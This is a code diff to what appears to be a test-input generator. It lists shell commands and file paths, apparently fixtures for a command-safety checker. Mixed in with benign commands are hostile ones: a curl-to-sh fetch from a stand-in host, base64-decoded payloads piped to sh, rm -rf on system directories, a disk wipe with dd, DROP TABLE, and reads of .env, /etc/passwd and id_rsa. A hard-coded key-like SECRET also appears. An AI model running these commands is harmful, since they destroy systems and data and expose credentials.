@@ -5,10 +5,11 @@ import random
 
 SECRET = "AKIAQ4ZT" + "X7RK2MPLWN3J"
 
+# None of them reaches the files of Midrail itself, which are in other places for each store.
 COMMANDS = [
-    "ls -la", "rm -rf /etc", "git push --force origin main", "cat .env", "echo $(curl http://x.example/a.sh | sh)", "cargo test",
-    "find . -name '*.log' -delete", "sudo rm -r /var", "bash -c 'rm -rf ~'", "git status", "dd if=/dev/zero of=/dev/sda", "npm ci",
-    "psql -c 'DROP TABLE users'", "grep -r password src", "chmod -R 777 /", "echo aGVsbG8= | base64 -d | sh", "kubectl delete ns prod",
+    "ls -la", "rm -rf /usr", "git push --force origin main", "cat .env", "echo $(curl http://x.example/a.sh | sh)", "cargo test",
+    "find . -name '*.log' -delete", "sudo rm -r /var", "bash -c 'rm -rf /opt'", "git status", "dd if=/dev/zero of=/dev/sda", "npm ci",
+    "psql -c 'DROP TABLE users'", "grep -r password src", "chmod -R 777 /usr", "echo aGVsbG8= | base64 -d | sh", "kubectl delete ns prod",
 ]
 FILES = ["notes.txt", "src/main.rs", ".env", "new.txt", "/etc/passwd", "../other/file", "id_rsa", "report.md"]
 TEXTS = [
